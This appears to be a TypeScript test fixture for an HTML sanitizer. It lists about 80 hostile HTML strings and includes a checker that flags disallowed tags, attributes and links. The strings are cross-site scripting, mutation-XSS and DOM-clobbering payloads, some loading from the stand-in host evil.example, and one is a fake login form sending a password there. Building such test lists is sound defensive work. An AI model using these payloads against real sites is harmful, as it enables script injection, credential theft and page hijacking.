/**
 * HTML that tries to run script, to phone home, to leave its place on the page or to become something else when
 * it is parsed a second time (SEC-22). Each calls `attack()`, loads `https://evil.example` or covers the page
 * when it gets through.
 */
export const HOSTILE_HTML: readonly string[] = [
  '<script>attack()</script>',
  '<ScRiPt>attack()</sCrIpT>',
  '<script src="https://evil.example/x.js"></script>',
  '<<script>attack()//<</script>',
  '<script/x>attack()</script>',
  '<scr<script>ipt>attack()</scr</script>ipt>',
  '<img src=x onerror=attack()>',
  '<img src=x onerror="attack()"//',
  '<img/src=x/onerror=attack()>',
  '<IMG """><script>attack()</script>">',
  '<img src="https://evil.example/pixel.gif">',
  '<svg onload=attack()>',
  '<svg><script>attack()</script></svg>',
  '<svg><a xlink:href="javascript:attack()"><text y="20">press</text></a></svg>',
  '<svg><animate onbegin=attack() attributeName=x dur=1s></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>attack()</script></svg>#x"></use></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=attack()>">',
  '<svg><style><img src=x onerror=attack()></style></svg>',
  '<svg><desc><noscript></noscript><img src onerror=attack()></desc></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=attack()&gt;">',
  '<math><mi//xlink:href="data:x,<script>attack()</script>">',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=attack()></annotation-xml></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=attack()>',
  '<noscript><p title="</noscript><img src=x onerror=attack()>"></noscript>',
  '<noembed><img title="</noembed><img src=x onerror=attack()>"></noembed>',
  '<template><img src=x onerror=attack()></template>',
  '<textarea></textarea><img src=x onerror=attack()></textarea>',
  '<title><p title="</title><img src=x onerror=attack()>">',
  '<xmp><p title="</xmp><img src=x onerror=attack()>"></xmp>',
  '<select><option><style><img src=x onerror=attack()></style></option></select>',
  '<!--<img src="--><img src=x onerror=attack()>">',
  '<!--!> <img src=x onerror=attack()> -->',
  '<![CDATA[<img src=x onerror=attack()>]]>',
  '<?xml version="1.0"?><img src=x onerror=attack()>',
  '<p title="--><img src=x onerror=attack()>">a title</p>',
  '<a href="javascript:attack()">press</a>',
  '<a href="JaVaScRiPt:attack()">press</a>',
  '<a href="java\tscript:attack()">press</a>',
  '<a href="java&#10;script:attack()">press</a>',
  '<a href="&#106;avascript&colon;attack&lpar;&rpar;">press</a>',
  '<a href="\u0001javascript:attack()">press</a>',
  '<a href="javascript://%0aattack()">press</a>',
  '<a href="vbscript:attack()">press</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hdHRhY2soKTwvc2NyaXB0Pg==">press</a>',
  '<a href="blob:https://evil.example/1">press</a>',
  '<a href="http://evil.example">press</a>',
  '<a href="//evil.example">press</a>',
  '<a href="\\\\evil.example">press</a>',
  '<a href="https://a.example" onclick="attack()" onmouseover=attack() style="position:fixed;inset:0">press</a>',
  '<a href="https://a.example" target="_blank" ping="https://evil.example">press</a>',
  '<iframe src="javascript:attack()"></iframe>',
  '<iframe srcdoc="<script>attack()</script>"></iframe>',
  '<object data="javascript:attack()"></object>',
  '<embed src="javascript:attack()">',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:attack()">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css";body{display:none}</style>',
  '<p style="background:url(https://evil.example/x)">styled</p>',
  '<p style="position:fixed;inset:0;z-index:9999">cover</p>',
  '<form action="https://evil.example"><input name="password"><button>Log in</button></form>',
  '<button formaction="javascript:attack()">press</button>',
  '<details open ontoggle=attack()>',
  '<video><source onerror=attack()></video>',
  '<audio src=x onerror=attack()>',
  '<body onload=attack()>',
  '<marquee onstart=attack()>moving</marquee>',
  '<p id="root" name="attack" class="footer">clobbers</p>',
  '<a id="bootstrap" href="https://a.example">clobbers</a>',
  '<form id="document"><input name="cookie"></form>',
  '<table><td><a href="javascript:attack()">cell</a><script>attack()</script></td></table>',
  '<p\u0000 onclick=attack()>null</p>',
  '<p onclick\u0000=attack()>null</p>',
  '<div><div><div><custom-element onclick=attack()>deep</custom-element></div></div></div>',
  '<keygen autofocus onfocus=attack()>',
  '<input autofocus onfocus=attack()>',
  '<p contenteditable onfocus=attack() tabindex=1>edit</p>',
];

const ALLOWED: Readonly<Record<string, readonly string[]>> = {
  a: ['href'],
  th: ['scope', 'colspan'],
  td: ['colspan'],
};
const TAGS = new Set(
  'h2 h3 h4 p br hr ul ol li strong b em i u a blockquote table thead tbody tr th td'.split(' '),
);
const LINK = /^(?:https:\/\/|mailto:|tel:)/;

/** What stands under an element that no legal text may hold; empty when it is clean. */
export function findDirt(root: ParentNode, ignoring: readonly string[] = []): string[] {
  return [...root.querySelectorAll('*')].flatMap((element) => {
    const name = element.localName;
    const attributes = [...element.attributes].map(({ name: attribute }) => attribute);
    const extra = attributes.filter(
      (attribute) => ![...(ALLOWED[name] ?? []), ...ignoring].includes(attribute),
    );
    const href = element.getAttribute('href');
    return [
      ...(TAGS.has(name) && element.namespaceURI === 'http://www.w3.org/1999/xhtml' ? [] : [`<${name}>`]),
      ...extra.map((attribute) => `${name}[${attribute}]`),
      ...(href !== null && !LINK.test(href) ? [`${name}[href=${href}]`] : []),
    ];
  });
}
